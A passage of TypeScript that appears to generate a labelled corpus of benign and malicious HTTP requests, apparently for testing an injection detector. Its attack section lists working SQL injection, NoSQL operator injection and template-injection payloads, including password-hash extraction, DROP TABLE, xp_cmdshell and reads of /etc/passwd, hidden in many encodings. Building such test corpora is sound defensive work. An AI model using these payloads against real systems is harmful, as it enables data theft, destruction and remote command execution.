        weaknesses: prose(1, 2),
        conflictOfInterest: false,
      }),
      'application/vnd.api+json',
    ),
  () =>
    get(
      '/jobs/api/v1/jobs',
      {
        'filter[pair]': pick(LANG_PAIRS),
        'filter[domain]': 'legal',
        include: 'client,files',
        'fields[jobs]': 'title,deadline,wordCount',
        'page[size]': 25,
      },
      'application/vnd.api+json',
    ),
  () =>
    get(
      '/camp/api/sessions',
      { 'filter[age]': int(6, 14), sort: '-startDate', 'page[number]': int(1, 4) },
      'application/vnd.api+json',
    ),
];

function gqlPost(query: string, variables: Record<string, unknown>, operationName?: string): Draft {
  return jsonReq('POST', pick(['/graphql', '/api/graphql', '/hub/api/v1/graphql']), {
    operationName,
    query,
    variables,
  });
}

const graphqls: (() => Draft)[] = [
  () =>
    gqlPost(
      'query Products($region: String, $first: Int, $after: String) { products(region: $region, first: $first, after: $after) { edges { node { sku name vintage price { amount currency } } } pageInfo { endCursor hasNextPage } } }',
      { region: pick(WINES).region, first: 24, after: chance(0.5) ? b64(`cursor:${int(1, 400)}`) : null },
      'Products',
    ),
  () =>
    gqlPost(
      'mutation AddReview($input: ReviewInput!) { addReview(input: $input) { id rating createdAt } }',
      { input: { sku: pick(WINES).sku, rating: int(1, 5), note: pick(TASTING) } },
      'AddReview',
    ),
  () =>
    gqlPost(
      'query Departures($stop: ID!, $at: DateTime) {\n  stop(id: $stop) {\n    name\n    departures(after: $at, limit: 10) { line destination scheduled realtime platform }\n  }\n}',
      { stop: String(int(1000, 9999)), at: dateTime() },
      'Departures',
    ),
  () =>
    gqlPost(
      'mutation RunScene($id: ID!, $dryRun: Boolean = false) { runScene(id: $id, dryRun: $dryRun) { ok affectedDevices } }',
      { id: randStr(8).toLowerCase(), dryRun: chance(0.3) },
      'RunScene',
    ),
  () =>
    gqlPost(
      'mutation Comment($app: ID!, $text: String!) { addApplicantComment(application: $app, text: $text) { id } }',
      { app: `BP-2026-${int(10000, 99999)}`, text: prose(1, 3) },
      'Comment',
    ),
  () => {
    const vars = JSON.stringify({ first: 20, pair: pick(LANG_PAIRS) });
    const ext = JSON.stringify({ persistedQuery: { version: 1, sha256Hash: randStr(64, HEX) } });
    return get('/graphql', { operationName: 'OpenJobs', variables: vars, extensions: ext });
  },
  () => {
    const vars = JSON.stringify({ ndc: pick(DRUGS).ndc, location: 'MAIN' });
    const ext = JSON.stringify({ persistedQuery: { version: 1, sha256Hash: randStr(64, HEX) } });
    return get('/pharmacy/api/graphql', { operationName: 'StockLevel', variables: vars, extensions: ext });
  },
  () => get('/graphql', { query: `{ sessions(age: ${int(6, 14)}) { id name startDate spotsLeft } }` }),
];

function form(path: string, fields: Record<string, string | number | boolean>): Draft {
  return {
    method: 'POST',
    path,
    headers: headers({ ct: 'application/x-www-form-urlencoded' }),
    body: qs(fields),
  };
}

const forms: (() => Draft)[] = [
  () =>
    form('/api/v2/shop/newsletter', {
      email: pick(EMAILS),
      name: pick(PEOPLE),
      interests: 'whisky,natural wine',
      consent: 'yes',
    }),
  () =>
    form('/camp/api/waitlist', {
      parent: pick(PEOPLE),
      email: pick(EMAILS),
      child_age: int(5, 15),
      session: pick(CAMPS),
      message: prose(1, 2),
    }),
  () =>
    form('/permits/api/v1/contact', {
      subject: 'Question about setbacks',
      from: pick(EMAILS),
      body: prose(2, 3),
      permit: `BP-2026-${int(10000, 99999)}`,
    }),
  () =>
    form('/oauth/token', {
      grant_type: 'refresh_token',
      refresh_token: randStr(48, `${ALNUM}-_.`),
      client_id: 'bayferries-ios',
    }),
  () =>
    form('/transit/v3/feedback', {
      trip: `TR-${randStr(6).toUpperCase()}`,
      rating: int(1, 5),
      comment: prose(1, 2),
      contact_ok: chance(0.5),
    }),
  () =>
    form('/api/v2/shop/login', {
      username: pick(EMAILS),
      password: `${randStr(10)}!${int(10, 99)}`,
      remember: 'on',
    }),
];

function multipart(
  path: string,
  fields: Record<string, string>,
  file: { field: string; name: string; type: string; content: string },
): Draft {
  const boundary = `----WebKitFormBoundary${randStr(16)}`;
  let body = '';
  for (const [k, v] of Object.entries(fields))
    body += `--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`;
  body += `--${boundary}\r\nContent-Disposition: form-data; name="${file.field}"; filename="${file.name}"\r\nContent-Type: ${file.type}\r\n\r\n${file.content}\r\n--${boundary}--\r\n`;
  return {
    method: 'POST',
    path,
    headers: headers({ ct: `multipart/form-data; boundary=${boundary}` }),
    body,
  };
}

const multiparts: (() => Draft)[] = [
  () =>
    multipart(
      `/permits/api/v1/applications/BP-2026-${int(10000, 99999)}/documents`,
      { kind: pick(['site-plan', 'structural-calcs', 'photo']), description: prose(1, 1) },
      {
        field: 'file',
        name: pick(['site_plan_rev3.pdf', 'Deck framing (final).pdf', 'IMG_2041.jpg']),
        type: 'application/pdf',
        content: `%PDF-1.7\n%âãÏÓ\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n${randStr(120)}`,
      },
    ),
  () =>
    multipart(
      `/jobs/api/v1/jobs/${int(10000, 99999)}/source-files`,
      { pair: pick(LANG_PAIRS), note: pick(PROSE) },
      {
        field: 'source',
        name: pick(['manual_ch3.docx.txt', 'strings.csv', 'glossary_de-en.tsv']),
        type: 'text/csv',
        content: `key,source,context\nbtn_ok,"OK","Dialog button"\nmsg_welcome,"Welcome back, {name}!","Home screen"\nerr_net,"Can't reach the server — try again","Toast"\n`,
      },
    ),
  () =>
    multipart(
      '/camp/api/documents',
      { camper: uuid(), type: 'medical-form' },
      {
        field: 'upload',
        name: 'medical_form_signed.txt',
        type: 'text/plain',
        content: `Child: ${pick(PEOPLE)}\nAllergies: ${pick(['none', 'peanuts'])}\nSigned: ${pick(PEOPLE)} on ${date()}\n`,
      },
    ),
  () =>
    multipart(
      '/pharmacy/api/imports/delivery-note',
      { supplier: pick(['McKesson', 'Alliance Healthcare', 'Phoenix']), received: dateTime() },
      {
        field: 'file',
        name: `DN-${int(100000, 999999)}.csv`,
        type: 'text/csv',
        content: DRUGS.slice(0, int(2, 6))
          .map((d) => `${d.ndc};"${d.name}";${int(1, 40)};${int(10, 99)}B${int(1000, 9999)}`)
          .join('\n'),
      },
    ),
  () =>
    multipart(
      `/hub/api/v1/devices/${pick(DEVICES)}/firmware`,
      { version: `2024.${int(1, 12)}.${int(0, 9)}`, channel: 'stable' },
      {
        field: 'image',
        name: 'fw.bin',
        type: 'application/octet-stream',
        content: randStr(200, `${ALNUM}+/`),
      },
    ),
];

function ndjson(path: string, rows: unknown[]): Draft {
  return {
    method: 'POST',
    path,
    headers: headers({ ct: 'application/x-ndjson' }),
    body: `${rows.map((r) => JSON.stringify(r)).join('\n')}\n`,
  };
}

const ndjsons: (() => Draft)[] = [
  () =>
    ndjson(
      '/hub/api/v1/telemetry/batch',
      Array.from({ length: int(3, 8) }, () => ({
        ts: dateTime(),
        device: pick(DEVICES),
        metric: pick(['temp_c', 'rh_pct', 'power_w', 'lux']),
        value: int(0, 4000) / 10,
      })),
    ),
  () =>
    ndjson(
      '/transit/v3/validations/bulk',
      Array.from({ length: int(3, 7) }, () => ({
        ticket: randStr(12).toUpperCase(),
        stop: int(1000, 9999),
        at: dateTime(),
        result: pick(['ok', 'ok', 'ok', 'expired']),
      })),
    ),
  () =>
    ndjson(
      '/pharmacy/api/inventory/counts',
      Array.from({ length: int(2, 6) }, () => {
        const d = pick(DRUGS);
        return {
          ndc: d.ndc,
          name: d.name,
          counted: int(0, 300),
          by: pick(PEOPLE),
          note: chance(0.3) ? pick(PROSE) : null,
        };
      }),
    ),
  () =>
    ndjson(
      '/hub/api/v1/logs/ingest',
      Array.from({ length: int(3, 6) }, () => ({
        level: pick(['info', 'warn', 'debug']),
        msg: pick([
          'zwave: node 7 ack timeout, retrying (2/3)',
          'rule "Night mode" fired: lux < 5 && after sunset',
          'mqtt reconnect after 1532ms',
          'scene "Away" → 6 devices updated',
          'thermostat: setpoint 21.5°C → 19°C (eco)',
        ]),
        ts: dateTime(),
      })),
    ),
];

const deletes: (() => Draft)[] = [
  () => ({
    method: 'DELETE',
    path: `/api/v2/shop/cart/items/${pick(WINES).sku}`,
    headers: headers(),
    body: '',
  }),
  () => ({
    method: 'DELETE',
    path: `/transit/v3/bookings/${randStr(8).toUpperCase()}?reason=${encodeURIComponent(pick(['plans changed', 'weather', 'booked twice']))}`,
    headers: headers(),
    body: '',
  }),
  () => ({ method: 'DELETE', path: `/hub/api/v1/rules/${randStr(6)}`, headers: headers(), body: '' }),
  () => ({
    method: 'DELETE',
    path: `/permits/api/v1/applications/BP-2026-${int(10000, 99999)}/documents/${uuid()}`,
    headers: headers(),
    body: '',
  }),
  () => ({
    method: 'DELETE',
    path: `/camp/api/registrations/${uuid()}?refund=true`,
    headers: headers(),
    body: '',
  }),
  () => ({
    method: 'DELETE',
    path: `/jobs/api/v1/bids/${int(100000, 999999)}`,
    headers: headers(),
    body: '',
  }),
  () => ({
    method: 'DELETE',
    path: `/grants/v1/proposals/GR-2026-${int(100, 999)}/attachments/${int(1, 20)}`,
    headers: headers(),
    body: '',
  }),
];

const HTML_SNIPPETS = [
  () =>
    `<h2>${pick(WINES).name}</h2><p>${pick(TASTING)}</p><ul><li>Region: ${pick(WINES).region}</li><li>Serve at 16–18&nbsp;°C</li></ul>`,
  () =>
    `<p><strong>Food pairing:</strong> <em>roast duck</em>, mushroom risotto.</p><p><a href="https://cellardoor.example/blog/decanting" target="_blank" rel="noopener">How to decant</a></p><img src="https://cdn.cellardoor.example/img/${randStr(10)}.webp" alt="Bottle shot" width="640" height="960">`,
  () =>
    `<blockquote>${pick(TASTING)}</blockquote><p>— ${pick(PEOPLE)}, sommelier</p><table><tr><th>Vintage</th><th>Score</th></tr><tr><td>2016</td><td>95</td></tr></table>`,
  () =>
    `<p>Our "Explorer's box" contains 3 × 0.7&nbsp;L:</p><ol><li>Mezcal</li><li>Islay 16</li><li>Rum XO</li></ol><p style="color:#7a1f2b">Limited to 200 boxes!</p>`,
];

const COMMENT_HTML = [
  () =>
    `<p>Site visit ${date()}: framing OK. <strong>Correction required</strong> per <a href="https://codes.example/ibc/2021/1010">${pick(CODES)}</a>.</p>`,
  () =>
    `<ul><li>Guard height 34&quot; ✔</li><li>Baluster spacing &lt; 4&quot; ✘ (measured 4 ¼&quot;)</li></ul><p>Re-inspect after fix.</p>`,
  () =>
    `<p>${pick(PROSE)}</p><p><em>Inspector ${pick(PEOPLE)}</em></p><hr><p><small>Ref: ${pick(CODES)}</small></p>`,
];

const cmsHtmls: (() => Draft)[] = [
  () =>
    jsonReq('PUT', `/api/v2/shop/products/${pick(WINES).sku}`, {
      name: pick(WINES).name,
      descriptionHtml: pick(HTML_SNIPPETS)(),
      published: true,
    }),
  () =>
    jsonReq('POST', '/api/v2/shop/products', {
      sku: `WN-${randStr(3).toUpperCase()}-${int(2015, 2023)}-075`,
      name: pick(WINES).name,
      descriptionHtml: `${pick(HTML_SNIPPETS)()}${pick(HTML_SNIPPETS)()}`,
    }),
  () =>
    jsonReq('POST', `/permits/api/v1/inspections/${int(10000, 99999)}/comments`, {
      visibility: pick(['applicant', 'internal']),
      comment: { html: pick(COMMENT_HTML)(), result: pick(['pass', 'fail', 'partial']) },
    }),
];

const CODE_SNIPPETS = [
  `when:\n  - sensor.motion_garage == "on"\n  - sun.elevation < -6\nthen:\n  - light.turn_on: { entity: garage, brightness: 80 }\n  - delay: 00:05:00\n  - light.turn_off: garage`,
  `if (event.device === 'sensor-basement-leak' && event.value === 'wet') {\n  await notify(['+4790000000'], 'Water leak in basement!');\n  await device('plug-dehumidifier').set({ on: false });\n}`,
  `const t = state('thermostat-hall');\nif (now().hour >= 22 || now().hour < 6) t.setpoint = Math.min(t.setpoint, 18);\nelse t.setpoint = presence.any() ? 21 : 17;`,
  `# nightly\nfor d in devices.where(kind="blind"):\n    d.close(position=0)\nlog.info("closed %d blinds", len(devices))`,
];

const SNIPPETS = [
  {
    lang: 'sql',
    code: `SELECT grant_id, SUM(amount) AS total\nFROM budget_lines\nWHERE category = 'travel'\nGROUP BY grant_id\nHAVING SUM(amount) > 10000;`,
  },
  {
    lang: 'r',
    code: `df <- read.csv("survey_wave2.csv")\nmodel <- lmer(cycling_min ~ heat_index + (1 | participant), data = df)\nsummary(model)`,
  },
  {
    lang: 'bash',
    code: `#!/usr/bin/env bash\nset -euo pipefail\nfor f in data/*.fastq.gz; do\n  fastp -i "$f" -o "clean/$(basename "$f")" --thread 4\ndone`,
  },
  {
    lang: 'python',
    code: `import pandas as pd\nbudget = pd.read_excel("budget.xlsx", sheet_name="Y1")\nprint(budget.groupby("category")["amount"].sum().round(2))`,
  },
  {
    lang: 'yaml',
    code: `jobs:\n  align:\n    runs-on: hpc-gpu\n    steps:\n      - run: python align.py --lang sme --epochs 40\n      - run: rm -rf tmp/ && echo done`,
  },
  {
    lang: 'json',
    code: `{\n  "xliff": "2.1",\n  "srcLang": "en",\n  "trgLang": "de",\n  "segments": [{ "id": "s1", "source": "Press <b>Start</b>", "target": "Drücken Sie <b>Start</b>" }]\n}`,
  },
];

const codes: (() => Draft)[] = [
  () =>
    jsonReq('PUT', `/hub/api/v1/rules/${randStr(6)}`, {
      name: pick(['Leak guard', 'Garage light', 'Night setback', 'Blinds at dusk']),
      enabled: true,
      automation: { language: pick(['yaml', 'js', 'py']), source: pick(CODE_SNIPPETS) },
    }),
  () =>
    jsonReq('POST', '/hub/api/v1/rules', {
      name: `Rule ${int(1, 99)}`,
      automation: { language: 'js', source: pick(CODE_SNIPPETS), timeoutMs: 5000 },
    }),
  () => {
    const s = pick(SNIPPETS);
    return jsonReq('POST', `/grants/v1/proposals/GR-2026-${int(100, 999)}/methods`, {
      section: pick(['Data analysis', 'Reproducibility', 'Pipeline']),
      text: prose(1, 2),
      snippet: { language: s.lang, code: s.code },
    });
  },
  () => {
    const s = pick(SNIPPETS);
    return jsonReq('POST', `/jobs/api/v1/jobs/${int(10000, 99999)}/questions`, {
      question: 'Should code blocks be translated?',
      snippet: { language: s.lang, code: s.code },
    });
  },
];

const proses: (() => Draft)[] = [
  () =>
    jsonReq('POST', `/jobs/api/v1/jobs/${int(10000, 99999)}/messages`, {
      body: prose(2, 4),
      attachments: [],
    }),
  () =>
    jsonReq('POST', '/api/v2/shop/support/tickets', {
      subject: pick(['Wrong bottle delivered', 'Invoice question', 'Corked wine', 'Gift wrap?']),
      message: prose(2, 4),
      orderRef: `CD-${int(100000, 999999)}`,
    }),
  () =>
    jsonReq('POST', `/camp/api/registrations/${uuid()}/notes`, { author: pick(PEOPLE), text: prose(1, 3) }),
  () =>
    jsonReq('POST', '/transit/v3/support', {
      topic: pick(['refund', 'accessibility', 'lost property']),
      message: prose(2, 3),
      locale: pick(['nb-NO', 'sv-SE', 'en-GB', 'ru-RU']),
    }),
  () =>
    jsonReq('POST', `/permits/api/v1/applications/BP-2026-${int(10000, 99999)}/applicant-notes`, {
      text: prose(2, 4),
    }),
  () =>
    jsonReq('POST', '/pharmacy/api/incidents', {
      category: pick(['count discrepancy', 'cold-chain excursion', 'near miss']),
      narrative: prose(2, 3),
      reportedBy: pick(PEOPLE),
    }),
  () =>
    jsonReq('POST', '/hub/api/v1/support', {
      message: prose(1, 3),
      hubSerial: `HN-${randStr(10).toUpperCase()}`,
    }),
];

const SEARCH_TERMS = [
  'barolo 2019',
  'single malt under 80',
  "grower's champagne",
  'rioja "gran reserva"',
  'mezcal -tequila',
  'PFAS wetlands',
  'speech corpus Sámi',
  'Strömstad → Halden',
  'ferry bike allowed',
  'heparin 5000',
  'cefazolin 1 g shortage',
  'medical translation DE>EN',
  '日本語 翻訳 契約書',
  'перевод сайта',
  'swim camp age 8',
  'deck permit setback',
  'IBC 1010.1.9',
  'motion sensor offline',
  'select all lamps',
  'drop zone',
  'union station bus',
  "O'Neill grant",
  'tasting notes: cherry & tobacco',
  '50% off',
  'C++ developer localisation',
];

const searches: (() => Draft)[] = [
  () => get('/api/v2/shop/search', { q: pick(SEARCH_TERMS), page: int(1, 5) }),
  () => get('/grants/v1/search', { q: pick(SEARCH_TERMS), fields: 'title,abstract', from: date() }),
  () =>
    get('/transit/v3/search/stops', {
      q: pick(PORTS),
      near: `${int(58, 60)}.${int(1000, 9999)},${int(10, 12)}.${int(1000, 9999)}`,
    }),
  () => get('/pharmacy/api/search', { q: pick(DRUGS).name, scope: 'formulary' }),
  () => get('/jobs/api/v1/search', { q: pick(SEARCH_TERMS), pair: pick(LANG_PAIRS) }),
  () =>
    get('/permits/api/v1/search', { q: pick([pick(ADDRESSES), pick(CODES), 'solar PV 2026']), type: 'all' }),
  () =>
    get('/hub/api/v1/logs/search', {
      q: pick(['"ack timeout"', 'level:error AND device:zwave*', 'scene="Away"', 'setpoint < 18']),
      since: '24h',
    }),
];

const CLEAN_PLAN: [string, (() => Draft)[], number][] = [
  ['rest-get', restGets, 45],
  ['rest-write', restWrites, 40],
  ['merge-patch', mergePatches, 25],
  ['json-patch', jsonPatches, 25],
  ['jsonapi', jsonapis, 25],
  ['graphql', graphqls, 35],
  ['form', forms, 25],
  ['multipart', multiparts, 22],
  ['ndjson', ndjsons, 22],
  ['delete', deletes, 22],
  ['cms-html', cmsHtmls, 30],
  ['code', codes, 28],
  ['prose', proses, 40],
  ['search', searches, 40],
];

function buildClean(): CorpusRequest[] {
  const out: CorpusRequest[] = [];
  for (const [kind, gens, n] of CLEAN_PLAN) {
    for (let i = 0; i < n; i++) {
      const d = (gens[i % gens.length] ?? pick(gens))();
      out.push({
        id: `h26c${out.length + 1}`,
        kind,
        method: d.method,
        path: d.path,
        headers: d.headers,
        body: d.body,
      });
    }
  }
  return out;
}

// ---------------------------------------------------------------------------------------------------------
// Attacks
// ---------------------------------------------------------------------------------------------------------

interface Atk {
  readonly technique: string;
  readonly draft: Draft;
}

/** Escape every non-alphanumeric ASCII character of a JSON text's string values as \uXXXX. */
function uEscapeJson(obj: unknown): string {
  return JSON.stringify(obj).replace(/"((?:[^"\\]|\\.)*)"/g, (_m, inner: string) => {
    const raw = JSON.parse(`"${inner}"`) as string;
    let s = '';
    for (const ch of raw)
      s += /[A-Za-z0-9 ]/.test(ch) ? ch : `\\u${(ch.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`;
    return `"${s}"`;
  });
}

/** Generic string-payload placements shared by several families. */
const PLACE: Record<string, (p: string) => Draft> = {
  'json-nested': (p) =>
    jsonReq('POST', '/api/v2/shop/orders', {
      cartId: uuid(),
      customer: { name: pick(PEOPLE), email: pick(EMAILS) },
      shipping: { line1: pick(ADDRESSES), line2: p, country: 'NO' },
    }),
  'json-array': (p) =>
    jsonReq('POST', '/transit/v3/bookings', {
      tripId: `TR-${randStr(6).toUpperCase()}`,
      passengers: [
        { type: 'adult', name: pick(PEOPLE) },
        { type: 'child', name: p, age: 9 },
      ],
    }),
  'unicode-escape': (p) => ({
    method: 'POST',
    path: '/camp/api/registrations',
    headers: headers({ ct: 'application/json' }),
    body: uEscapeJson({
      session: pick(CAMPS),
      camper: { firstName: 'Maja', lastName: p },
      photoConsent: true,
    }),
  }),
  'json-in-string': (p) =>
    jsonReq('POST', '/hub/api/v1/integrations/webhook-test', {
      provider: 'ifttt',
      payload: JSON.stringify({ event: 'scene_run', value1: p, value2: 'Away' }),
    }),
  base64: (p) =>
    jsonReq('POST', `/jobs/api/v1/jobs/${int(10000, 99999)}/segments`, {
      encoding: 'base64',
      segments: [
        { id: 's1', source: b64('Press Start to begin.') },
        { id: 's2', source: b64(p) },
      ],
    }),
  'graphql-var': (p) =>
    gqlPost(
      'mutation Comment($app: ID!, $text: String!) { addApplicantComment(application: $app, text: $text) { id } }',
      { app: `BP-2026-${int(10000, 99999)}`, text: p },
      'Comment',
    ),
  'query-string': (p) => ({
    method: 'GET',
    path: `/api/v2/shop/products?${qs({ region: 'Mosel', sort: 'price' })}&q=${encodeURIComponent(p)}`,
    headers: headers(),
    body: '',
  }),
  'merge-patch': (p) =>
    jsonReq(
      'PATCH',
      `/pharmacy/api/inventory/${pick(DRUGS).ndc}`,
      { storage: { note: p } },
      'application/merge-patch+json',
    ),
  'json-patch-value': (p) =>
    jsonReq(
      'PATCH',
      `/hub/api/v1/rules/${randStr(6)}`,
      [{ op: 'replace', path: '/name', value: p }],
      'application/json-patch+json',
    ),
  form: (p) => form('/permits/api/v1/contact', { subject: 'Setback question', from: pick(EMAILS), body: p }),
  ndjson: (p) =>
    ndjson('/hub/api/v1/logs/ingest', [
      { level: 'info', msg: 'mqtt reconnect', ts: dateTime() },
      { level: 'warn', msg: p, ts: dateTime() },
    ]),
  jsonapi: (p) =>
    jsonReq(
      'POST',
      '/jobs/api/v1/bids',
      jsonapiDoc('bids', { rate: 0.12, message: p }),
      'application/vnd.api+json',
    ),
  'multipart-field': (p) =>
    multipart(
      '/camp/api/documents',
      { camper: uuid(), type: p },
      { field: 'upload', name: 'form.txt', type: 'text/plain', content: 'signed' },
    ),
  'search-param': (p) => ({
    method: 'GET',
    path: `/jobs/api/v1/search?pair=en%3Ede&q=${encodeURIComponent(p)}`,
    headers: headers(),
    body: '',
  }),
  'header-referer': (p) => ({
    method: 'GET',
    path: '/transit/v3/trips?from=Halden',
    headers: { ...headers(), referer: p },
    body: '',
  }),
};

function fromPlaces(payloads: readonly string[], places: readonly string[]): Atk[] {
  const out: Atk[] = [];
  for (let i = 0; i < 30; i++) {
    const place = places[i % places.length] ?? 'json-nested';
    const p = payloads[(i + Math.floor(i / places.length)) % payloads.length] ?? '';
    const fn = PLACE[place];
    if (!fn) throw new Error(`unknown placement ${place}`);
    out.push({ technique: place, draft: fn(p) });
  }
  return out;
}

function sqlAttacks(): Atk[] {
  const payloads = [
    "x' OR '1'='1' -- ",
    "WN-RIO-2016-075' UNION SELECT username, password_hash, NULL FROM users--",
    '1; DROP TABLE orders; --',
    "' AND SLEEP(5)-- -",
    "'; WAITFOR DELAY '0:0:5'--",
    "1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- ",
    "admin'/**/OR/**/1=1#",
    "' UnIoN/**/SeLeCt/**/table_name,2,3/**/FrOm/**/information_schema.tables--",
    '1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT user()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)',
    "'||(SELECT pg_sleep(5))||'",
    "x') OR 1=1 LIMIT 1 OFFSET 0 -- ",
    "1' AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)--",
    "'; EXEC xp_cmdshell('whoami')--",
    '-1 UNION ALL SELECT CHAR(117,115,101,114),NULL,NULL--',
    "' OR ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>64--",
  ];
  const atks = fromPlaces(payloads, [
    'json-nested',
    'json-array',
    'unicode-escape',
    'json-in-string',
    'base64',
    'graphql-var',
    'query-string',
    'merge-patch',
    'jsonapi',
    'form',
    'ndjson',
    'search-param',
  ]);
  // Replace a few with header and sort/filter-parameter placements.
  atks[26] = {
    technique: 'header-cookie',
    draft: {
      method: 'GET',
      path: '/api/v2/shop/cart',
      headers: { ...headers(), cookie: `session=${randStr(24)}; cart_id=1' AND SLEEP(5)-- -` },
      body: '',
    },
  };
  atks[27] = {
    technique: 'order-by-param',
    draft: get('/pharmacy/api/inventory', {
      location: 'MAIN',
      sort: '(CASE WHEN (SELECT 1)=1 THEN ndc ELSE name END)',
    }),
  };
  atks[28] = {
    technique: 'numeric-id-param',
    draft: get('/grants/v1/proposals', { id: '42 OR 1=1', status: 'awarded' }),
  };
  atks[29] = {
    technique: 'jsonapi-filter',
    draft: get(
      '/jobs/api/v1/jobs',
      { 'filter[pair]': "en>de' UNION SELECT email,api_key,3 FROM translators--", include: 'client' },
      'application/vnd.api+json',
    ),
  };
  return atks;
}

function nosqlAttacks(): Atk[] {
  const out: Atk[] = [];
  const add = (technique: string, draft: Draft): void => {
    out.push({ technique, draft });
  };
  const login = '/api/v2/shop/login';
  add('operator-ne-login', jsonReq('POST', login, { username: 'admin', password: { $ne: null } }));
  add('operator-gt-login', jsonReq('POST', login, { username: { $gt: '' }, password: { $gt: '' } }));
  add('regex-login', jsonReq('POST', login, { username: { $regex: '^adm' }, password: { $regex: '.*' } }));
  add(
    'where-js',
    jsonReq('POST', '/pharmacy/api/inventory/query', {
      filter: { $where: 'this.quantity < 0 || sleep(5000)' },
    }),
  );
  add(
    'where-function',
    jsonReq('POST', '/camp/api/campers/search', {
      filter: { $where: 'function() { return obj.credit > 0 || true; }' },
    }),
  );
  add('query-bracket-ne', get('/api/v2/shop/orders', { 'customer[$ne]': 'x', status: 'paid' }));
  add(
    'query-bracket-regex',
    get('/jobs/api/v1/translators', {
      'email[$regex]': '.*@lingobridge.example',
      'password[$exists]': 'true',
    }),
  );
  add('query-bracket-gt', get('/grants/v1/proposals', { 'pi[$gt]': '', 'funder[$nin][]': 'NIH' }));
  add(
    'or-injection',
    jsonReq('POST', '/transit/v3/bookings/lookup', {
      reference: 'BF-99120',
      $or: [{ email: { $exists: true } }, { _id: { $ne: 0 } }],
    }),
  );
  add(
    'expr-function',
    jsonReq('POST', '/hub/api/v1/devices/query', {
      where: { $expr: { $function: { body: 'function(){ return true }', args: [], lang: 'js' } } },
    }),
  );
  add(
    'nested-array-in',
    jsonReq('POST', '/permits/api/v1/applications/search', {
      criteria: [
        { field: 'status', value: 'open' },
        { field: 'owner', value: { $nin: [] } },
      ],
    }),
  );
  add('unicode-escape-ne', {
    method: 'POST',
    path: login,
    headers: headers({ ct: 'application/json' }),
    body: '{"username":"admin","password":{"\\u0024ne":"wrong"}}',
  });
  add('unicode-escape-where', {
    method: 'POST',
    path: '/pharmacy/api/lots/query',
    headers: headers({ ct: 'application/json' }),
    body: '{"q":{"\\u0024where":"sleep(3000) || true"}}',
  });
  add(
    'json-in-string-filter',
    jsonReq('POST', '/api/v2/shop/products/export', {
      format: 'csv',
      filter: JSON.stringify({ price: { $gte: 0 }, $where: 'this.cost > 0' }),
    }),
  );
  add(
    'json-in-query',
    get('/hub/api/v1/logs', {
      filter: JSON.stringify({ device: { $regex: '.*' }, level: { $ne: 'debug' } }),
    }),
  );
  add(
    'graphql-var-object',
    gqlPost(
      'query User($where: JSON) { users(where: $where) { id email role } }',
      { where: { role: { $ne: 'guest' }, apiKey: { $exists: true } } },
      'User',
    ),
  );
  add(
    'base64-filter',
    jsonReq('POST', '/jobs/api/v1/jobs/search', {
      filterEncoding: 'base64',
      filter: b64(JSON.stringify({ client: { $ne: null }, $where: 'sleep(2000)' })),
    }),
  );
  add(
    'aggregate-lookup',
    jsonReq('POST', '/grants/v1/reports/aggregate', {
      pipeline: [
        { $match: {} },
        { $lookup: { from: 'users', localField: 'pi', foreignField: '_id', as: 'u' } },
        { $project: { 'u.passwordHash': 1 } },
      ],
    }),
  );
  add(
    'merge-patch-operator',
    jsonReq(
      'PATCH',
      `/camp/api/registrations/${uuid()}`,
      { $set: { paid: true, role: 'admin' } },
      'application/merge-patch+json',
    ),
  );
  add(
    'update-operator',
    jsonReq('PUT', `/api/v2/shop/customers/${uuid()}`, { name: 'Zoë', $inc: { loyaltyPoints: 100000 } }),
  );
  add('form-bracket-ne', form(login, { username: 'admin', 'password[$ne]': '1' }));
  add(
    'form-bracket-regex',
    form('/transit/v3/tickets/lookup', { 'email[$regex]': '^a', 'ref[$exists]': '1' }),
  );
  add(
    'jsonapi-filter-op',
    get('/jobs/api/v1/jobs', { 'filter[client][$ne]': '', 'page[size]': 100 }, 'application/vnd.api+json'),
  );
  add(
    'ndjson-operator',
    ndjson('/pharmacy/api/inventory/counts', [
      { ndc: DRUGS[0]?.ndc, counted: 3 },
      { ndc: { $ne: '' }, counted: { $gt: -1 } },
    ]),
  );
  add(
    'where-sleep-string',
    jsonReq('POST', '/hub/api/v1/scenes/search', { name: "Away'; return sleep(5000); var x='" }),
  );
  add(
    'mapreduce-js',
    jsonReq('POST', '/grants/v1/reports/custom', {
      map: 'function(){ emit(this.pi, db.users.find().toArray()); }',
      reduce: 'function(k,v){ return v; }',
    }),
  );
  add(
    'text-search-operator',
    jsonReq('POST', '/permits/api/v1/search', { q: { $text: { $search: 'deck' } }, owner: { $gt: '' } }),
  );
  add(
    'elemmatch',
    jsonReq('POST', '/camp/api/sessions/query', { campers: { $elemMatch: { medical: { $exists: true } } } }),
  );
  add('header-json-filter', {
    method: 'GET',
    path: '/hub/api/v1/devices',
    headers: { ...headers(), 'x-filter': '{"owner":{"$ne":null}}' },
    body: '',
  });
  add('query-bracket-where', get('/transit/v3/trips', { 'from[$where]': 'sleep(5000)', date: date() }));
  return out;
}

function templateAttacks(): Atk[] {
  const payloads = [
    '{{7*7}}{{config.items()}}',
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('cat /etc/passwd').read() }}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '<%= `cat /etc/passwd` %>',
    "<%= system('whoami') %>",
    "#set($x=$class.inspect('java.lang.Runtime').type.getRuntime().exec('id'))$x",
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    "{% import os %}{{ os.system('id') }}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    '{{#with "s" as |string|}}{{#with string.split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{/with}}{{/with}}',
    '@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))',
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
  ];
  return fromPlaces(payloads, [
    'json-nested',
    'json-array',
